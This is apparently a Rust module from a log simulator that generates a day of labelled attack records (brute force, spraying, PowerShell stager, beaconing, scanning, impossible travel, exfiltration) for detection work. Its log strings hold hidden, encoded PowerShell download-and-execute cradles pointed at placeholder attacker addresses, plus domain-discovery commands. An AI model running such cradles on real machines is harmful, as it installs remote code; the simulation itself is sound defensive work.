//! The scripted attack campaign: seven attacks, one after another over one simulated day.
//!
//! Times are offsets from the campaign's start (local midnight with the default
//! [`SimConfig`](crate::SimConfig)); victims and attacker addresses are drawn per campaign from
//! the seed, so a repeated campaign is not a copy of the last one.
//!
//! | offset | attack | what the logs show |
//! |---|---|---|
//! | 02:10 | [`Attack::SshBruteForce`] | ~40 failed SSH passwords on the internet-facing bastion from one address in ~4 min, then an accepted password for the guessed account |
//! | 04:20 | [`Attack::PasswordSpraying`] | failed cloud sign-ins for every user, one or two each, from one address over ~45 min |
//! | 09:40 | [`Attack::SuspiciousPowershell`] | a macro document starts PowerShell with `-EncodedCommand`, then a `DownloadFile` cradle, an implant and discovery commands (Sysmon 1), with the HTTP download |
//! | 09:43 | [`Attack::C2Beaconing`] | the implant connects to one external address every 60 s ± 2.5 s with near-constant sizes, for six hours (Zeek `conn`, `ssl`, periodic `dns`) |
//! | 11:05 | [`Attack::PortScan`] | another workstation sweeps 60 server addresses on four ports, then 1,024 ports of one server (Zeek `conn`, `S0`/`REJ`/`RSTO`) |
//! | 12:50 | [`Attack::ImpossibleTravel`] | a remote user signs in from home, then 15–20 min later from another continent |
//! | 21:30 | [`Attack::DataExfiltration`] | a server that never talks to the internet uploads ~1.5–2 GB over TLS to one address in 45 min |

use chrono::{DateTime, Duration, Utc};
use rand::Rng;
use rand::seq::IndexedRandom;

use crate::background::{between, dns_lookup, ephemeral_port, lognormal, process, workday};
use crate::org::{self, SERVERS, WORKSTATIONS};
use crate::render::{self, Conn, Endpoints, Place};
use crate::{Out, SimConfig, Source, rng_for};

/// The longest a campaign runs; repeats are at least this far apart.
pub const CAMPAIGN_SPAN: Duration = Duration::hours(23);

const STREAM_CAMPAIGN: u64 = 100;

/// A scripted attack; its [`label`](Attack::label) is the ground truth on [`crate::SimRecord`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Attack {
    SshBruteForce,
    PasswordSpraying,
    PortScan,
    C2Beaconing,
    ImpossibleTravel,
    SuspiciousPowershell,
    DataExfiltration,
}

impl Attack {
    pub const ALL: [Attack; 7] = [
        Attack::SshBruteForce,
        Attack::PasswordSpraying,
        Attack::PortScan,
        Attack::C2Beaconing,
        Attack::ImpossibleTravel,
        Attack::SuspiciousPowershell,
        Attack::DataExfiltration,
    ];

    pub fn label(self) -> &'static str {
        match self {
            Attack::SshBruteForce => "ssh-brute-force",
            Attack::PasswordSpraying => "password-spraying",
            Attack::PortScan => "port-scan",
            Attack::C2Beaconing => "c2-beaconing",
            Attack::ImpossibleTravel => "impossible-travel",
            Attack::SuspiciousPowershell => "suspicious-powershell",
            Attack::DataExfiltration => "data-exfiltration",
        }
    }

    pub fn from_label(label: &str) -> Option<Attack> {
        Attack::ALL.into_iter().find(|a| a.label() == label)
    }
}

fn ms(n: i64) -> Duration {
    Duration::milliseconds(n)
}

fn mins(n: i64) -> Duration {
    Duration::minutes(n)
}

/// An attacker address in the documentation ranges, varied by the draw.
fn attacker_ip(rng: &mut impl Rng) -> String {
    let prefix = ["192.0.2", "203.0.113"][rng.random_range(0..2)];
    format!("{prefix}.{}", rng.random_range(130..250))
}

/// Every record of campaign `n`, starting at `cs`.
pub(crate) fn campaign(cfg: &SimConfig, n: u64, cs: DateTime<Utc>, out: &mut Out) {
    let mut pick = rng_for(cfg.seed, &[STREAM_CAMPAIGN, n]);
    let date = crate::background::local_date(cfg, cs);
    // Office staff (not administrators) at work that day are the phishing and scanning
    // victims; a remote user at work that day has the stolen password.
    let office: Vec<usize> = (0..org::USERS.len())
        .filter(|&i| {
            let u = &org::USERS[i];
            u.workstation.is_some() && !u.admin && workday(cfg, i, date).is_some()
        })
        .collect();
    let office = if office.len() >= 2 {
        office
    } else {
        vec![0, 1]
    };
    let remote: Vec<usize> = (0..org::USERS.len())
        .filter(|&i| {
            let u = &org::USERS[i];
            u.workstation.is_none() && u.travels_to.is_none() && workday(cfg, i, date).is_some()
        })
        .collect();
    let phished = *office.choose(&mut pick).unwrap_or(&0);
    let others: Vec<usize> = office.iter().copied().filter(|&i| i != phished).collect();
    let scanner = others.choose(&mut pick).copied().unwrap_or(1);
    let travelled = *remote.choose(&mut pick).unwrap_or(&13);
    let exfil_server = [3usize, 2][pick.random_range(0..2)];

    let rng = |k: u64| rng_for(cfg.seed, &[STREAM_CAMPAIGN, n, k]);
    out.attack = Some(Attack::SshBruteForce);
    ssh_brute_force(&mut rng(1), out, cs + mins(130));
    out.attack = Some(Attack::PasswordSpraying);
    password_spraying(&mut rng(2), out, cs + mins(260));
    let c2 = attacker_ip(&mut rng(3));
    out.attack = Some(Attack::SuspiciousPowershell);
    powershell(&mut rng(4), out, cs + mins(580), phished, &c2);
    out.attack = Some(Attack::C2Beaconing);
    beaconing(&mut rng(5), out, cs + mins(583), phished, &c2);
    out.attack = Some(Attack::PortScan);
    port_scan(&mut rng(6), out, cs + mins(665), scanner);
    out.attack = Some(Attack::ImpossibleTravel);
    impossible_travel(&mut rng(7), out, cs + mins(770), travelled);
    out.attack = Some(Attack::DataExfiltration);
    exfiltration(&mut rng(8), out, cs + mins(1290), exfil_server);
    out.attack = None;
}

/// Password guessing against sshd on the bastion, then a login with the guessed password.
fn ssh_brute_force(rng: &mut impl Rng, out: &mut Out, t0: DateTime<Utc>) {
    let bastion = &SERVERS[0];
    let ip = attacker_ip(rng);
    let guesses: Vec<(&str, bool)> = std::iter::repeat_n(("root", true), 24)
        .chain(std::iter::repeat_n(("admin", false), 6))
        .chain(std::iter::repeat_n(("ubuntu", false), 3))
        .chain(std::iter::repeat_n(("deploy", true), 8))
        .collect();
    let mut t = t0;
    let mut port = ephemeral_port(rng);
    let mut pid = rng.random_range(2_000..60_000u32);
    for (i, (user, exists)) in guesses.iter().enumerate() {
        if i % 3 == 0 {
            // A new connection every three tries, as sshd's MaxAuthTries allows.
            port = port.wrapping_add(rng.random_range(1..40)).max(1024);
            pid = rng.random_range(2_000..60_000u32);
            let ends = Endpoints {
                orig: &ip,
                orig_p: port,
                resp: bastion.ip,
                resp_p: 22,
            };
            let conn = Conn::tcp(ends, Some("ssh"), 14.0, 2_300, 2_900);
            out.push(
                t - ms(150),
                Source::ZeekConn,
                conn.line(&render::zeek_uid(rng), t - ms(150)),
            );
        }
        let msg = if *exists {
            format!("Failed password for {user} from {ip} port {port} ssh2")
        } else {
            let invalid = format!("Invalid user {user} from {ip} port {port}");
            out.push(
                t,
                Source::Sshd,
                render::syslog(t, bastion.name, "sshd", pid, &invalid),
            );
            t += ms(rng.random_range(300..900));
            format!("Failed password for invalid user {user} from {ip} port {port} ssh2")
        };
        out.push(
            t,
            Source::Sshd,
            render::syslog(t, bastion.name, "sshd", pid, &msg),
        );
        t += ms(rng.random_range(3_500..7_500));
    }
    port = port.wrapping_add(7).max(1024);
    pid = rng.random_range(2_000..60_000u32);
    let ends = Endpoints {
        orig: &ip,
        orig_p: port,
        resp: bastion.ip,
        resp_p: 22,
    };
    let conn = Conn::tcp(ends, Some("ssh"), 1_260.0, 48_000, 310_000);
    out.push(
        t - ms(150),
        Source::ZeekConn,
        conn.line(&render::zeek_uid(rng), t - ms(150)),
    );
    let msg = format!("Accepted password for deploy from {ip} port {port} ssh2");
    out.push(
        t,
        Source::Sshd,
        render::syslog(t, bastion.name, "sshd", pid, &msg),
    );
    let msg = "pam_unix(sshd:session): session opened for user deploy(uid=1002) by (uid=0)";
    out.push(
        t + ms(40),
        Source::Sshd,
        render::syslog(t + ms(40), bastion.name, "sshd", pid, msg),
    );
    let end = t + Duration::seconds(1_260);
    let msg = "pam_unix(sshd:session): session closed for user deploy";
    out.push(
        end,
        Source::Sshd,
        render::syslog(end, bastion.name, "sshd", pid, msg),
    );
}

/// One or two password guesses for every account, from one address, spread over ~45 min.
fn password_spraying(rng: &mut impl Rng, out: &mut Out, t0: DateTime<Utc>) {
    let ip = attacker_ip(rng);
    let from = Place {
        ip: &ip,
        country: "NL",
        city: "Amsterdam",
    };
    let ua = "python-requests/2.31.0";
    let mut order: Vec<usize> = (0..org::USERS.len()).collect();
    for i in (1..order.len()).rev() {
        order.swap(i, rng.random_range(0..=i));
    }
    let mut t = t0;
    for round in 0..2 {
        for &u in &order {
            if round == 1 && rng.random_bool(0.6) {
                continue;
            }
            let user = org::USERS[u].name;
            out.push(t, Source::Sso, render::sso_signin(t, user, false, from, ua));
            t += ms(rng.random_range(50_000..110_000));
        }
    }
}

/// UTF-16LE base64, as PowerShell's `-EncodedCommand` takes its script.
pub fn encode_command(script: &str) -> String {
    const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut s = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                s.push(B64[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                s.push('=');
            }
        }
    }
    s
}

/// A macro document starts encoded PowerShell, which downloads and starts an implant; the
/// implant runs a few discovery commands.
fn powershell(rng: &mut impl Rng, out: &mut Out, t0: DateTime<Utc>, victim: usize, c2: &str) {
    let user = &org::USERS[victim];
    let ws = &WORKSTATIONS[user.workstation.unwrap_or(0)];
    let who = format!(r"{}\{}", org::DOMAIN, user.name);
    let word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
    let doc = format!(
        r"C:\Users\{}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{}\Invoice_{}.docm",
        user.name,
        ["8QX2KD1M", "Z1T0W7PA", "K4M9B2RC"][rng.random_range(0..3)],
        rng.random_range(1000..9999)
    );
    let word_cmd = format!("\"{word}\" /n \"{doc}\" /o \"\"");
    process(
        rng,
        out,
        t0,
        ws.name,
        &who,
        word,
        &word_cmd,
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
    );
    let ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let stage = format!("IEX (New-Object Net.WebClient).DownloadString('http://{c2}/s')");
    let enc_cmd = format!(
        "powershell.exe -nop -w hidden -enc {}",
        encode_command(&stage)
    );
    let t = t0 + Duration::seconds(rng.random_range(20..40));
    process(rng, out, t, ws.name, &who, ps, &enc_cmd, word, &word_cmd);
    // The stager's download, over plain HTTP.
    let ends = Endpoints {
        orig: ws.ip,
        orig_p: ephemeral_port(rng),
        resp: c2,
        resp_p: 80,
    };
    let uid = render::zeek_uid(rng);
    let t = t + ms(1_800);
    let ps_ua = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.5486";
    out.push(
        t,
        Source::ZeekConn,
        Conn::tcp(ends, Some("http"), 0.4, 180, 4_712).line(&uid, t),
    );
    out.push(
        t + ms(30),
        Source::ZeekHttp,
        render::zeek_http(&uid, t + ms(30), ends, "GET", c2, "/s", ps_ua, 200, 4_712),
    );
    // The second stage fetches the implant and starts it.
    let implant = format!(
        r"C:\Users\{}\AppData\Roaming\Microsoft\OneDriveUpdate.exe",
        user.name
    );
    let cradle = format!(
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command \"(New-Object Net.WebClient).DownloadFile('http://{c2}/u.bin','{implant}'); Start-Process '{implant}'\""
    );
    let t = t + Duration::seconds(3);
    process(rng, out, t, ws.name, &who, ps, &cradle, ps, &enc_cmd);
    let ends = Endpoints {
        orig: ws.ip,
        orig_p: ephemeral_port(rng),
        resp: c2,
        resp_p: 80,
    };
    let uid = render::zeek_uid(rng);
    let t = t + ms(900);
    out.push(
        t,
        Source::ZeekConn,
        Conn::tcp(ends, Some("http"), 1.9, 190, 389_120).line(&uid, t),
    );
    out.push(
        t + ms(30),
        Source::ZeekHttp,
        render::zeek_http(
            &uid,
            t + ms(30),
            ends,
            "GET",
            c2,
            "/u.bin",
            ps_ua,
            200,
            389_120,
        ),
    );
    let t = t + Duration::seconds(4);
    process(
        rng,
        out,
        t,
        ws.name,
        &who,
        &implant,
        &format!("\"{implant}\""),
        ps,
        &cradle,
    );
    // Discovery from the implant.
    let cmd = r"C:\Windows\System32\cmd.exe";
    let mut t = t + Duration::seconds(rng.random_range(60..120));
    for c in [
        "whoami /all",
        "net group \"domain admins\" /domain",
        "nltest /dclist:corp",
    ] {
        let line = format!(r"C:\Windows\system32\cmd.exe /c {c}");
        process(
            rng,
            out,
            t,
            ws.name,
            &who,
            cmd,
            &line,
            &implant,
            &format!("\"{implant}\""),
        );
        t += Duration::seconds(rng.random_range(5..30));
    }
}

/// The implant's check-ins: every 60 s ± 2.5 s for six hours, near-constant sizes.
fn beaconing(rng: &mut impl Rng, out: &mut Out, t0: DateTime<Utc>, victim: usize, c2: &str) {
    let ws = &WORKSTATIONS[org::USERS[victim].workstation.unwrap_or(0)];
    let domain = [
        "cdn-assets.example.net",
        "static-update.example.org",
        "telemetry-svc.example.com",
    ][rng.random_range(0..3)];
    let mut t = t0;
    let end = t0 + Duration::hours(6);
    let mut k = 0u32;
    while t < end {
        if k.is_multiple_of(5) {
            dns_lookup(rng, out, t - ms(30), ws.ip, domain, c2);
        }
        let ends = Endpoints {
            orig: ws.ip,
            orig_p: ephemeral_port(rng),
            resp: c2,
            resp_p: 443,
        };
        let uid = render::zeek_uid(rng);
        let up = 310 + rng.random_range(0..24);
        let down = 1_150 + rng.random_range(0..60);
        let conn = Conn::tcp(ends, Some("ssl"), rng.random_range(0.25..0.4), up, down);
        out.push(t, Source::ZeekConn, conn.line(&uid, t));
        out.push(
            t + ms(45),
            Source::ZeekSsl,
            render::zeek_ssl(&uid, t + ms(45), ends, domain, k > 0),
        );
        t += ms(60_000 + rng.random_range(-2_500..2_500));
        k += 1;
    }
}

/// A sweep of 60 server addresses on four ports, then every port up to 1024 of one server.
fn port_scan(rng: &mut impl Rng, out: &mut Out, t0: DateTime<Utc>, scanner: usize) {
    let ws = &WORKSTATIONS[org::USERS[scanner].workstation.unwrap_or(0)];
    let mut t = t0;
    for last in 1..=60 {
        let host = format!("10.0.1.{last}");
        for port in [22u16, 80, 445, 3389] {
            probe(rng, out, t, ws.ip, &host, port);
            t += ms(rng.random_range(20..160));
        }
    }
    let target = SERVERS[1 + rng.random_range(0..3)].ip;
    t += Duration::seconds(rng.random_range(20..90));
    for port in 1..=1024u16 {
        probe(rng, out, t, ws.ip, target, port);
        t += ms(rng.random_range(5..60));
    }
}

/// One scan probe: no answer from an unused address, a reset from a closed port, a
/// connect-and-reset from an open one.
fn probe(rng: &mut impl Rng, out: &mut Out, t: DateTime<Utc>, from: &str, host: &str, port: u16) {
    let ends = Endpoints {
        orig: from,
        orig_p: ephemeral_port(rng),
        resp: host,
        resp_p: port,
    };
    let conn = match SERVERS.iter().find(|s| s.ip == host) {
        None => Conn::failed(ends, false),
        Some(s) if s.open_ports.contains(&port) => Conn {
            conn_state: "RSTO",
            history: "ShAR",
            orig_pkts: 3,
            resp_pkts: 1,
            ..Conn::tcp(ends, None, 0.001, 0, 0)
        },
        Some(_) => Conn::failed(ends, true),
    };
    out.push(t, Source::ZeekConn, conn.line(&render::zeek_uid(rng), t));
}

/// A remote user signs in from home, then from another continent minutes later.
fn impossible_travel(rng: &mut impl Rng, out: &mut Out, t0: DateTime<Utc>, victim: usize) {
    let user = &org::USERS[victim];
    let home = Place {
        ip: user.home_ip,
        country: org::HOME_COUNTRY,
        city: org::HOME_CITY,
    };
    out.push(
        t0,
        Source::Sso,
        render::sso_signin(t0, user.name, true, home, user.user_agent),
    );
    let (country, city) = [
        ("BR", "São Paulo"),
        ("SG", "Singapore"),
        ("US", "Dallas"),
        ("ZA", "Johannesburg"),
    ][rng.random_range(0..4)];
    let ip = attacker_ip(rng);
    let far = Place {
        ip: &ip,
        country,
        city,
    };
    let t = t0 + Duration::seconds(rng.random_range(900..1_200));
    let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
    out.push(
        t,
        Source::Sso,
        render::sso_signin(t, user.name, true, far, ua),
    );
}

/// A server uploads far more than it ever sends, over TLS to one address.
fn exfiltration(rng: &mut impl Rng, out: &mut Out, t0: DateTime<Utc>, server: usize) {
    let server = &SERVERS[server];
    let ip = attacker_ip(rng);
    let domain = "files.example-share.net";
    dns_lookup(rng, out, t0 - ms(80), server.ip, domain, &ip);
    let end = t0 + Duration::minutes(45);
    let mut t = t0;
    while t < end {
        let ends = Endpoints {
            orig: server.ip,
            orig_p: ephemeral_port(rng),
            resp: &ip,
            resp_p: 443,
        };
        let uid = render::zeek_uid(rng);
        let up = (lognormal(rng, 55.0e6, 0.25)) as u64;
        let conn = Conn::tcp(
            ends,
            Some("ssl"),
            rng.random_range(30.0..80.0),
            up,
            9_000 + rng.random_range(0..4_000),
        );
        out.push(t, Source::ZeekConn, conn.line(&uid, t));
        out.push(
            t + ms(50),
            Source::ZeekSsl,
            render::zeek_ssl(&uid, t + ms(50), ends, domain, false),
        );
        t = between(rng, t + Duration::seconds(50), t + Duration::seconds(100));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encoded_command_is_utf16le_base64() {
        // `powershell -enc` of "whoami", as PowerShell itself encodes it.
        assert_eq!(encode_command("whoami"), "dwBoAG8AYQBtAGkA");
        assert_eq!(encode_command("ab"), "YQBiAA==");
    }

    #[test]
    fn labels_round_trip() {
        for a in Attack::ALL {
            assert_eq!(Attack::from_label(a.label()), Some(a));
        }
    }
}
